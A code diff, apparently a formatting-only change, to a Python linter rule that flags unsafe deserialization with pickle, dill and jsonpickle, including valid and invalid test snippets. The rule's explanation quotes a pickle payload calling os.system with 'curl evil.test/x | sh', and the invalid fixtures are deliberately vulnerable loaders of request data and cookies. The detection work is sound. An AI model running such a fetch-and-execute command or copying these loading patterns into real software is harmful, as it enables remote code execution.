@@ -38,7 +38,7 @@ class UnsafeDeserialization(Rule):
         "to call while loading."
     )
     why = (
-        "A pickle whose `__reduce__` returns `(os.system, (\"curl evil.test/x | sh\",))` runs that command "
+        'A pickle whose `__reduce__` returns `(os.system, ("curl evil.test/x | sh",))` runs that command '
         "the moment it is loaded, before any type check. Cookies, cache entries, uploaded model files, "
         "message-queue payloads and files in shared buckets are all ways for such bytes to arrive."
     )
@@ -47,31 +47,37 @@ class UnsafeDeserialization(Rule):
         "load only bytes you produced and authenticated (an HMAC checked with `hmac.compare_digest` "
         "before loading)."
     )
-    example = 'payload = json.loads(body)\nsettings = Settings.model_validate(payload)'
+    example = "payload = json.loads(body)\nsettings = Settings.model_validate(payload)"
     references = (
         "https://cwe.mitre.org/data/definitions/502.html",
         "https://docs.python.org/3/library/pickle.html",
         "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
     )
     VALID = (
-        'import json\ndef f(body):\n    return json.loads(body)\n',
-        'import pickle\ndef f(obj):\n    return pickle.dumps(obj)\n',
+        "import json\ndef f(body):\n    return json.loads(body)\n",
+        "import pickle\ndef f(obj):\n    return pickle.dumps(obj)\n",
         'import pickle\nDEFAULTS = pickle.loads(b"\\x80\\x04N.")\n',
         'import pickle\nVOCAB = pickle.load(open("assets/vocab.pkl", "rb"))\n',
         # The program's own data: a deep copy, and a cache that stores and loads its entries.
-        'import pickle\ndef clone(obj):\n    return pickle.loads(pickle.dumps(obj))\n',
+        "import pickle\ndef clone(obj):\n    return pickle.loads(pickle.dumps(obj))\n",
         'import pickle, zlib\nclass FileCache:\n    def set(self, path, value):\n        with open(path, "wb") as f:\n'
-        '            f.write(zlib.compress(pickle.dumps(value)))\n    def get(self, path):\n'
+        "            f.write(zlib.compress(pickle.dumps(value)))\n    def get(self, path):\n"
         '        with open(path, "rb") as f:\n            return pickle.loads(zlib.decompress(f.read()))\n',
     )
     INVALID = (
-        Invalid('import pickle\nfrom flask import request\ndef f():\n    return pickle.loads(request.data)\n'),
-        Invalid('import pickle\ndef load_cache(path):\n    with open(path, "rb") as fh:\n        return pickle.load(fh)\n'),
-        Invalid('import jsonpickle\ndef f(s):\n    return jsonpickle.decode(s)\n'),
+        Invalid("import pickle\nfrom flask import request\ndef f():\n    return pickle.loads(request.data)\n"),
+        Invalid(
+            'import pickle\ndef load_cache(path):\n    with open(path, "rb") as fh:\n        return pickle.load(fh)\n'
+        ),
+        Invalid("import jsonpickle\ndef f(s):\n    return jsonpickle.decode(s)\n"),
         # Storing with pickle does not make a request's bytes the program's own.
-        Invalid('import pickle\nfrom flask import request\nclass Sessions:\n    def save(self, s):\n        return pickle.dumps(s)\n'
-                '    def load(self):\n        return pickle.loads(request.cookies["s"])\n'),
-        Invalid('import base64, dill\ndef f(request):\n    return dill.loads(base64.b64decode(request.COOKIES["state"]))\n'),
+        Invalid(
+            "import pickle\nfrom flask import request\nclass Sessions:\n    def save(self, s):\n        return pickle.dumps(s)\n"
+            '    def load(self):\n        return pickle.loads(request.cookies["s"])\n'
+        ),
+        Invalid(
+            'import base64, dill\ndef f(request):\n    return dill.loads(base64.b64decode(request.COOKIES["state"]))\n'
+        ),
     )
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
@@ -88,13 +94,24 @@ class UnsafeDeserialization(Rule):
         if source is None and _round_trip(node, module, ctx):
             return
         what = f"user input ({source.label})" if source else "data from outside the program"
-        ctx.report(self, data, details={"callee": callee, "what": what, "module": module}, source=source,
-                   severity=raised(self, source), confidence=unconfirmed(self, source))
+        ctx.report(
+            self,
+            data,
+            details={"callee": callee, "what": what, "module": module},
+            source=source,
+            severity=raised(self, source),
+            confidence=unconfirmed(self, source),
+        )
 
     @staticmethod
     def _bundled_file(data: ast.expr, ctx) -> bool:
         """`open("model/vocab.pkl", "rb")`: a file shipped with the program, named by a constant."""
-        return isinstance(data, ast.Call) and ctx.call_name(data) in ("open", "io.open") and bool(data.args) and is_static(data.args[0], ctx)
+        return (
+            isinstance(data, ast.Call)
+            and ctx.call_name(data) in ("open", "io.open")
+            and bool(data.args)
+            and is_static(data.args[0], ctx)
+        )
 
 
 def _round_trip(node: ast.Call, module: str, ctx) -> bool:
